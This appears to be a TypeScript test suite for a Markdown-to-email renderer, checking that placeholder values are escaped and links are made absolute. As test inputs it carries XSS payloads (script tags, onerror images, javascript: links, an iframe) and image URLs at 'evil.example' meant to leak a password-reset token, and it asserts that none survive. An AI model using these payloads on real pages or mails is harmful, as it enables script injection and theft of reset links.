import * as fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { mailLook } from './mail-look.ts';
import { markdownMailHtml, markdownMailText } from './mail-markdown.ts';

const SITE = 'https://shop.example';
const LINK = `${SITE}/reset-password?token=t_o_k&email=a%40b`;

const block = (markdown: string, values: Record<string, string> = {}) => ({
  type: 'markdown' as const,
  markdown,
  values: new Map(Object.entries({ name: 'Ada', order: '7', link: LINK, ...values })),
});
const htmlOf = (markdown: string, values?: Record<string, string>) =>
  markdownMailHtml(block(markdown, values), SITE, mailLook(undefined)).replaceAll(/ (?:style|class|rel)="[^"]*"/g, '');
const textOf = (markdown: string, values?: Record<string, string>) => markdownMailText(block(markdown, values), SITE);
const LINK_HTML = LINK.replace('&', '&#x26;');

describe('Markdown in a mail', () => {
  it('becomes paragraphs, lists and emphasis with their placeholders filled in', () => {
    expect(htmlOf('Hello **{name}**,\n\n- order {order}')).toBe(
      '<p>Hello <strong>Ada</strong>,</p>\n<ul>\n<li>order 7</li>\n</ul>',
    );
  });

  it('has inline styles for the clients that drop style sheets, and classes for the dark theme', () => {
    expect(markdownMailHtml(block('Hello'), SITE, mailLook(undefined))).toMatch(
      /^<p class="ink" style="color:#1b1a18;/,
    );
  });

  it.each([
    ['markup', '<img src=x onerror=alert(1)>'],
    ['Markdown', '**bold** [link](https://evil.example) `code` # head'],
    ['a placeholder', '{link} {{ {name}'],
    ['what stands for one inside', 'zq0z zq1z zq2z'],
  ])('shows %s in a value as it is', (_what, name) => {
    const html = htmlOf('Hello {name}!', { name });
    const escaped = name.replaceAll('&', '&#x26;').replaceAll('<', '&#x3C;');
    expect(html).toBe(`<p>Hello ${escaped}!</p>`);
    expect(textOf('Hello {name}!', { name })).toBe(`Hello ${name}!`);
  });

  it('makes a link of the address that it brings, by itself and as the address of a link', () => {
    expect(htmlOf('See {link}')).toBe(`<p>See <a href="${LINK_HTML}">${LINK_HTML}</a></p>`);
    expect(htmlOf('See [your order]({link})')).toBe(`<p>See <a href="${LINK_HTML}">your order</a></p>`);
    expect(textOf('See [your order]({link})')).toBe(`See your order (${LINK})`);
    expect(textOf('See {link}')).toBe(`See ${LINK}`);
  });

  it('puts other values into addresses as parts of them, never as another address', () => {
    expect(htmlOf('[Track](https://parcel.example/?o={order}&n={name})', { name: 'a&b=c/d' })).toContain(
      'https://parcel.example/?o=7&#x26;n=a%26b%3Dc%2Fd',
    );
    expect(htmlOf('[x]({name})', { name: 'javascript:alert(1)' })).not.toContain('javascript:');
  });

  it('tells no other site the link, which may be as good as a password', () => {
    expect(htmlOf('![](https://evil.example/{link}) [x](https://evil.example/?u={link})')).not.toContain('t_o_k');
    expect(htmlOf('![]({link})')).not.toContain('t_o_k');
    expect(htmlOf('![{name}](https://evil.example/{name}.png)', { name: 'Ada' })).not.toContain('/Ada');
  });

  it('has addresses that work outside of the site', () => {
    expect(htmlOf('[Terms](/page/terms) ![Logo](/media/a.png)')).toMatch(
      /href="https:\/\/shop\.example\/page\/terms".* src="https:\/\/shop\.example\/media\/a\.png"/,
    );
  });

  it('runs nothing and frames nothing', () => {
    expect(
      htmlOf('<script>alert(1)</script><iframe src="//evil.example"></iframe>\n\n[x](javascript:alert(1))'),
    ).not.toMatch(/script|iframe|evil/);
  });
});

test('Whatever a value is, the text shows it once, and the HTML has no element of it', () => {
  const word = fc.string({ unit: fc.constantFrom(...'ab<>&{}*_[]()`#!zq01"\'\\ ') }).map((text) => text.trim());
  fc.assert(
    fc.property(word, (name) => {
      expect(htmlOf('a {name} b', { name }).replaceAll(/<\/?p>/g, '')).not.toContain('<');
      expect(textOf('a {name} b', { name }).replaceAll(/\s+/g, ' ')).toBe(`a ${name} b`.replaceAll(/\s+/g, ' '));
    }),
  );
});
